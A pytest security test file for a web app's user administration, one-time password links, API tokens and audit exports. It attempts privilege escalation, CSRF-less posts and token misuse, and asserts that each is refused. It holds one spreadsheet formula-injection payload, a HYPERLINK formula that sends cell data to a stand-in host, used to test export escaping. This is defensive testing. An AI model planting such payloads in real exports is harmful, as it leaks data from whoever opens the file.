"""/admin/users, /reset/{token}, /account/tokens and /audit over plain HTTP against a real server:
each attack on people and access (issue 18 item 5) performed and refused."""

from __future__ import annotations

import csv
import io
import re
from contextlib import closing
from urllib.parse import urlsplit

import httpx
import openpyxl
import psycopg2
import pytest

from geo.auth import accounts, audit
from geo.auth.users import create_user
from tests.browser.data import fill
from tests.conftest import LiveServer
from tests.dbutil import create_database, dbname_of, drop_database

pytestmark = pytest.mark.slow  # a database and a server of its own

PASSWORD = "kata-sandi-uji-12345"
NEW_PASSWORD = "bulan purnama di sungai kahayan"
USERS = {  # username: (role, regencies)
    "admin-prov": ("admin", None),
    "admin-kotim": ("admin", ["62.02"]),
    "editor-prov": ("editor", None),
    "viewer-prov": ("viewer", None),
}


@pytest.fixture(scope="module")
def admin_db(server_url, template_db):
    url = create_database(server_url, template=template_db)
    fill(url)
    conn = psycopg2.connect(url)
    try:
        for name, (role, regencies) in USERS.items():
            create_user(conn, name, PASSWORD, role, "kesbangpol", regencies)
    finally:
        conn.close()
    yield url
    drop_database(server_url, dbname_of(url))


@pytest.fixture(scope="module")
def server(admin_db):
    live = LiveServer(admin_db, {"PANTAU_LOGIN_ATTEMPTS_PER_MINUTE": "1000"})
    yield live
    live.stop()


def query(url: str, sql: str, params=()) -> list[tuple]:
    conn = psycopg2.connect(url)
    try:
        with conn, conn.cursor() as cur:
            cur.execute(sql, params)
            return cur.fetchall() if cur.description else []
    finally:
        conn.close()


def csrf_of(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def login(base: str, username: str, password: str = PASSWORD) -> httpx.Client:
    client = httpx.Client(base_url=base, timeout=60)
    form = client.get("/login")
    r = client.post("/login", data={"username": username, "password": password, "csrf_token": csrf_of(form.text),
                                    "next": "/"})
    assert r.status_code == 303, r.text
    return client


def csrf(client: httpx.Client) -> str:
    return client.cookies["pantau_csrf"]


def user_id(url: str, username: str) -> int | None:
    rows = query(url, "SELECT id FROM users WHERE username = %s", (username,))
    return rows[0][0] if rows else None


def one_time_link(html: str) -> str:
    return urlsplit(re.search(r'id="one-time-link" value="([^"]+)"', html).group(1)).path


def create(client: httpx.Client, username: str, role: str = "viewer", regencies=("62.02",)) -> httpx.Response:
    data = {"csrf_token": csrf(client), "username": username, "role": role, "agency": "pemkab",
            "scope": "regencies" if regencies else "province", "regencies": list(regencies)}
    return client.post("/admin/users", data=data)


def test_non_admins_are_refused_and_see_no_admin_links(server, admin_db):
    for name in ("editor-prov", "viewer-prov"):
        with closing(login(server.base, name)) as client:
            home = client.get("/")
            assert home.status_code == 200
            assert 'href="/admin/users"' not in home.text and 'href="/audit"' not in home.text
            assert 'href="/account/tokens"' in home.text  # their own tokens: every role
            for path in ("/admin/users", "/admin/users/new", f"/admin/users/{user_id(admin_db, 'viewer-prov')}",
                         "/audit", "/audit?user=admin-prov", "/audit/export.csv", "/audit/export.xlsx"):
                r = client.get(path)
                assert r.status_code == 403, (name, path, r.status_code)
                assert "jejak-audit" not in r.headers.get("content-disposition", "")
            r = create(client, f"dibuat-{name}", role="admin", regencies=())
            assert r.status_code == 403
            r = client.post(f"/admin/users/{user_id(admin_db, name)}",
                            data={"csrf_token": csrf(client), "role": "admin", "agency": "kesbangpol", "scope": "province"})
            assert r.status_code == 403
    assert user_id(admin_db, "dibuat-editor-prov") is None and user_id(admin_db, "dibuat-viewer-prov") is None
    assert query(admin_db, "SELECT role FROM users WHERE username = 'editor-prov'") == [("editor",)]


def test_a_regency_admin_cannot_manage_users_nor_escalate(server, admin_db):
    """The rule (geo/auth/accounts.py): only province-wide admins manage users."""
    own = user_id(admin_db, "admin-kotim")
    with closing(login(server.base, "admin-kotim")) as client:
        assert client.get("/admin/users").status_code == 403
        assert create(client, "teman-kotim", role="admin", regencies=()).status_code == 403
        r = client.post(f"/admin/users/{own}", data={"csrf_token": csrf(client), "role": "admin",
                                                      "agency": "kesbangpol", "scope": "province"})
        assert r.status_code == 403
        assert client.post(f"/admin/users/{own}/reset", data={"csrf_token": csrf(client)}).status_code == 403
        # The trail names other regencies' users and targets: province-wide admins only.
        assert client.get("/audit").status_code == 403
        assert client.get("/audit/export.csv").status_code == 403
        assert client.get("/api/audit").status_code == 403  # the API as the page
        home = client.get("/").text  # and no link to pages that would refuse them
        assert 'href="/admin/users"' not in home and 'href="/audit"' not in home
    assert user_id(admin_db, "teman-kotim") is None
    assert query(admin_db, "SELECT regencies FROM users WHERE id = %s", (own,)) == [(["62.02"],)]
    assert query(admin_db, "SELECT count(*) FROM password_resets r JOIN users u ON u.id = r.user_id "
                           "WHERE u.username = 'admin-kotim'") == [(0,)]


def test_every_form_post_needs_the_csrf_token(server, admin_db):
    target = user_id(admin_db, "viewer-prov")
    with closing(login(server.base, "admin-prov")) as client:
        for token in ("", "not-the-cookie"):
            data = {"username": "tanpa-csrf", "role": "admin", "agency": "kesbangpol", "scope": "province"}
            if token:
                data["csrf_token"] = token
            assert client.post("/admin/users", data=data).status_code == 403
            assert client.post(f"/admin/users/{target}/disable", data={"csrf_token": token}).status_code == 403
            assert client.post(f"/admin/users/{target}/reset", data={"csrf_token": token}).status_code == 403
            assert client.post("/account/tokens", data={"csrf_token": token, "name": "x", "days": "5",
                                                         "password": PASSWORD}).status_code == 403
    assert user_id(admin_db, "tanpa-csrf") is None
    assert query(admin_db, "SELECT disabled FROM users WHERE id = %s", (target,)) == [(False,)]
    assert query(admin_db, "SELECT count(*) FROM password_resets WHERE user_id = %s", (target,)) == [(0,)]


def test_new_user_sets_the_first_password_through_a_one_time_link(server, admin_db):
    with closing(login(server.base, "admin-prov")) as admin:
        r = create(admin, "budi.sampit", role="editor", regencies=("62.02",))
        assert r.status_code == 201, r.text
        assert r.headers["cache-control"] == "no-store"
        link = one_time_link(r.text)
    token = link.rsplit("/", 1)[1]
    # Only the hash is kept; the admin never chose a password the user could log in with.
    assert query(admin_db, "SELECT count(*) FROM password_resets WHERE token_hash = encode(sha256(%s::bytea), 'hex')",
                 (token,)) == [(1,)]
    assert query(admin_db, "SELECT count(*) FROM password_resets WHERE token_hash = %s", (token,)) == [(0,)]
    assert query(admin_db, "SELECT role, agency, regencies FROM users WHERE username = 'budi.sampit'") == \
        [("editor", "pemkab", ["62.02"])]
    assert query(admin_db, "SELECT username, detail->>'role' FROM audit_log WHERE action = 'user.create' "
                           "AND target = 'budi.sampit'") == [("admin-prov", "editor")]

    user = httpx.Client(base_url=server.base, timeout=60)
    page = user.get(link)
    assert page.status_code == 200 and "budi.sampit" in page.text
    # The policy applies, and a refused password leaves the link working.
    weak = user.post(link, data={"csrf_token": csrf_of(page.text), "password": "budi.sampit2026",
                                 "password2": "budi.sampit2026"})
    assert weak.status_code == 400 and "nama pengguna" in weak.text
    no_csrf = user.post(link, data={"password": NEW_PASSWORD, "password2": NEW_PASSWORD})
    assert no_csrf.status_code == 403
    done = user.post(link, data={"csrf_token": csrf_of(page.text), "password": NEW_PASSWORD, "password2": NEW_PASSWORD})
    assert done.status_code == 200 and 'id="reset-done"' in done.text
    # Single use: the page and the form both refuse it now.
    assert user.get(link).status_code == 404
    again = user.post(link, data={"csrf_token": csrf_of(page.text), "password": NEW_PASSWORD + " lagi",
                                  "password2": NEW_PASSWORD + " lagi"})
    assert again.status_code == 404
    with closing(login(server.base, "budi.sampit", NEW_PASSWORD)) as client:
        assert client.get("/api/auth/me").json()["regencies"] == ["62.02"]
    assert query(admin_db, "SELECT count(*) FROM audit_log WHERE action = 'user.password_link' "
                           "AND username = 'budi.sampit'") == [(1,)]


def test_reset_link_expires_ends_sessions_and_a_newer_link_replaces_it(server, admin_db):
    target = user_id(admin_db, "viewer-prov")
    victim = login(server.base, "viewer-prov")
    assert victim.get("/").status_code == 200
    with closing(login(server.base, "admin-prov")) as admin:
        first = one_time_link(admin.post(f"/admin/users/{target}/reset", data={"csrf_token": csrf(admin)}).text)
        second = one_time_link(admin.post(f"/admin/users/{target}/reset", data={"csrf_token": csrf(admin)}).text)
    anon = httpx.Client(base_url=server.base, timeout=60)
    assert anon.get(first).status_code == 404  # replaced by the newer link
    assert anon.get(second).status_code == 200
    query(admin_db, "UPDATE password_resets SET expires_at = now() - interval '1 second' "
                    "WHERE user_id = %s AND used_at IS NULL AND revoked_at IS NULL", (target,))
    assert anon.get(second).status_code == 404  # expired
    with closing(login(server.base, "admin-prov")) as admin:
        third = one_time_link(admin.post(f"/admin/users/{target}/reset", data={"csrf_token": csrf(admin)}).text)
    form = anon.get(third)
    r = anon.post(third, data={"csrf_token": csrf_of(form.text), "password": NEW_PASSWORD, "password2": NEW_PASSWORD})
    assert r.status_code == 200
    # The session opened before the new password has ended.
    assert victim.get("/").status_code == 303
    with closing(login(server.base, "viewer-prov", NEW_PASSWORD)):
        pass
    query(admin_db, "UPDATE users SET password_hash = (SELECT password_hash FROM users WHERE username = 'editor-prov') "
                    "WHERE id = %s", (target,))


def test_disabling_ends_sessions_and_tokens_at_once_and_self_is_refused(server, admin_db):
    name = "nonaktif.uji"
    conn = psycopg2.connect(admin_db)
    try:
        create_user(conn, name, PASSWORD, "analyst", "polda", None)
        # A second province-wide admin: the refusals below are the self rule, not the last-admin rule.
        create_user(conn, "admin-cadangan", PASSWORD, "admin", "kesbangpol", None)
    finally:
        conn.close()
    target = user_id(admin_db, name)
    session = login(server.base, name)
    r = session.post("/account/tokens", data={"csrf_token": csrf(session), "name": "sinkron", "days": "30",
                                               "password": PASSWORD})
    assert r.status_code == 201
    token = re.search(r'id="new-token" value="([^"]+)"', r.text).group(1)
    bearer = {"Authorization": f"Bearer {token}"}
    assert httpx.get(f"{server.base}/api/auth/me", headers=bearer).status_code == 200
    with closing(login(server.base, "admin-prov")) as admin:
        r = admin.post(f"/admin/users/{target}/disable", data={"csrf_token": csrf(admin)})
        assert r.status_code == 303
        own = user_id(admin_db, "admin-prov")
        r = admin.post(f"/admin/users/{own}/disable", data={"csrf_token": csrf(admin)})
        assert r.status_code == 400
        assert "tidak boleh menonaktifkan akun Anda sendiri" in re.search(r'id="form-error">([^<]*)<', r.text).group(1)
        r = admin.post(f"/admin/users/{own}", data={"csrf_token": csrf(admin), "role": "viewer",
                                                    "agency": "kesbangpol", "scope": "province"})
        assert r.status_code == 400
        assert "peran atau wilayah Anda sendiri" in re.search(r'id="form-error">([^<]*)<', r.text).group(1)
    assert httpx.get(f"{server.base}/api/auth/me", headers=bearer).status_code == 401
    assert session.get("/").status_code == 303
    assert query(admin_db, "SELECT role, disabled FROM users WHERE username = 'admin-prov'") == [("admin", False)]
    assert query(admin_db, "SELECT action, username FROM audit_log WHERE target = %s AND action LIKE 'user.%%'",
                 (name,)) == [("user.disable", "admin-prov")]


def test_the_last_province_wide_admin_stays(server, admin_db):
    """Two admins demoting each other: the second change is refused (the rows are locked)."""
    # admin-prov the only enabled province-wide admin (other tests may have added some), then a second.
    query(admin_db, "UPDATE users SET disabled = true WHERE role = 'admin' AND regencies IS NULL "
                    "AND username <> 'admin-prov'")
    conn = psycopg2.connect(admin_db)
    try:
        create_user(conn, "admin-dua", PASSWORD, "admin", "kesbangpol", None)
        from api.security import Principal

        one = Principal("admin-prov", "admin", "kesbangpol", None)
        two = Principal("admin-dua", "admin", "kesbangpol", None)
        accounts.change(conn, one, user_id(admin_db, "admin-dua"), "admin", "kesbangpol", ["62.02"])
        with pytest.raises(accounts.AccountError, match="terakhir"):
            accounts.change(conn, two, user_id(admin_db, "admin-prov"), "viewer", "kesbangpol", None)
        with pytest.raises(accounts.AccountError, match="terakhir"):
            accounts.set_enabled(conn, two, user_id(admin_db, "admin-prov"), False)
    finally:
        conn.close()
    assert query(admin_db, "SELECT role, regencies, disabled FROM users WHERE username = 'admin-prov'") == \
        [("admin", None, False)]


def test_own_tokens_need_the_password_and_never_reach_another_user(server, admin_db):
    with closing(login(server.base, "editor-prov")) as editor:
        before = query(admin_db, "SELECT count(*) FROM api_tokens")[0][0]
        r = editor.post("/account/tokens", data={"csrf_token": csrf(editor), "name": "tanpa sandi", "days": "5"})
        assert r.status_code == 403
        r = editor.post("/account/tokens", data={"csrf_token": csrf(editor), "name": "sandi salah", "days": "5",
                                                 "password": "bukan-sandi-saya-123"})
        assert r.status_code == 403
        assert query(admin_db, "SELECT count(*) FROM api_tokens")[0][0] == before
        r = editor.post("/account/tokens", data={"csrf_token": csrf(editor), "name": "milik editor", "days": "5",
                                                 "password": PASSWORD})
        assert r.status_code == 201 and r.headers["cache-control"] == "no-store"
        secret = re.search(r'id="new-token" value="([^"]+)"', r.text).group(1)
        page = editor.get("/account/tokens")
        assert "milik editor" in page.text and secret not in page.text  # the secret only once
    with closing(login(server.base, "viewer-prov", PASSWORD)) as viewer:
        theirs = query(admin_db, "SELECT t.id FROM api_tokens t JOIN users u ON u.id = t.user_id "
                                 "WHERE u.username = 'editor-prov'")[0][0]
        assert "milik editor" not in viewer.get("/account/tokens").text
        r = viewer.post(f"/account/tokens/{theirs}/revoke", data={"csrf_token": csrf(viewer)})
        assert r.status_code == 404
    assert query(admin_db, "SELECT revoked_at IS NULL FROM api_tokens WHERE id = %s", (theirs,)) == [(True,)]
    assert query(admin_db, "SELECT count(*) FROM audit_log WHERE action = 'api_token.create' AND outcome = 'denied' "
                           "AND username = 'editor-prov'") == [(1,)]
    # An admin revokes it from the user's page.
    with closing(login(server.base, "admin-prov")) as admin:
        r = admin.post(f"/admin/users/{user_id(admin_db, 'editor-prov')}/tokens/{theirs}/revoke",
                       data={"csrf_token": csrf(admin)})
        assert r.status_code == 303
    assert query(admin_db, "SELECT revoked_at IS NOT NULL FROM api_tokens WHERE id = %s", (theirs,)) == [(True,)]


def test_audit_filters_and_formula_safe_exports_are_audited(server, admin_db):
    conn = psycopg2.connect(admin_db)
    try:
        audit.record(conn, "company.update", username="editor-prov", role="editor", agency="kesbangpol",
                     target='=HYPERLINK("http://example.invalid/?x="&A1,"klik")', detail={"note": "@SUM(1+1)"})
        audit.record(conn, "company.update", username="viewer-prov", role="viewer", agency="kesbangpol",
                     target="company:1")
    finally:
        conn.close()
    with closing(login(server.base, "admin-prov")) as admin:
        page = admin.get("/audit", params={"user": "editor-prov", "action": "company."})
        assert page.status_code == 200
        assert 'data-username="editor-prov"' in page.text and 'data-username="viewer-prov"' not in page.text
        assert admin.get("/audit", params={"target": "company:"}).text.count('data-action="company.update"') == 1
        assert admin.get("/audit", params={"since": "2030-01-02", "until": "2030-01-01"}).status_code == 400
        r = admin.get("/audit/export.csv", params={"user": "editor-prov", "action": "company."})
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
        assert rows[0][0] == "id" and len(rows) == 2
        assert rows[1][7].startswith("'=HYPERLINK") and rows[1][2] == "editor-prov"
        x = admin.get("/audit/export.xlsx", params={"user": "editor-prov", "action": "company."})
        sheet = openpyxl.load_workbook(io.BytesIO(x.content)).active
        cell = sheet.cell(row=2, column=8)
        assert cell.value.startswith("=HYPERLINK") and cell.data_type == "s"
    exports = query(admin_db, "SELECT detail->>'format', detail->'filter'->>'user', (detail->>'rows')::int "
                              "FROM audit_log WHERE action = 'audit.export' ORDER BY id")
    assert exports == [("csv", "editor-prov", 1), ("xlsx", "editor-prov", 1)]


def test_a_password_link_never_reaches_the_access_log(admin_db, tmp_path):
    """The link is a credential: whoever reads the server's log must not be able to use it."""
    from api.security import Principal
    from tests.test_trust_logging import ServeProcess

    conn = psycopg2.connect(admin_db)
    try:
        create_user(conn, "log.uji", PASSWORD, "viewer", "polda", ["62.71"])
        admin = Principal("admin-prov", "admin", "kesbangpol", None)
        _, token = accounts.reset_link(conn, admin, user_id(admin_db, "log.uji"))
    finally:
        conn.close()
    served = ServeProcess(admin_db, tmp_path / "serve.log")
    try:
        client = httpx.Client(base_url=served.base, timeout=60)
        page = client.get(f"/reset/{token}")
        assert page.status_code == 200
        assert client.post(f"/reset/{token}", data={"csrf_token": csrf_of(page.text), "password": NEW_PASSWORD,
                                                    "password2": NEW_PASSWORD}).status_code == 200
    finally:
        log = served.stop()
    assert "/reset/***" in log
    assert token not in log and token[:16] not in log


def test_an_admin_makes_a_token_for_another_user_with_their_own_password(server, admin_db):
    target = user_id(admin_db, "viewer-prov")
    with closing(login(server.base, "admin-prov")) as admin:
        data = {"csrf_token": csrf(admin), "name": "sinkronisasi SIMKIM", "days": "30"}
        assert admin.post(f"/admin/users/{target}/tokens", data={**data, "password": "salah-bukan-sandi-1"}).status_code == 403
        r = admin.post(f"/admin/users/{target}/tokens", data={**data, "password": PASSWORD})
        assert r.status_code == 201 and r.headers["cache-control"] == "no-store"
        token = re.search(r'id="new-token" value="([^"]+)"', r.text).group(1)
    me = httpx.get(f"{server.base}/api/auth/me", headers={"Authorization": f"Bearer {token}"}).json()
    assert (me["username"], me["role"]) == ("viewer-prov", "viewer")  # the owner's role, not the admin's
    assert query(admin_db, "SELECT username, detail->>'owner' FROM audit_log WHERE action = 'api_token.create' "
                           "AND outcome = 'ok' AND detail->>'name' = 'sinkronisasi SIMKIM'") == [("admin-prov", "viewer-prov")]
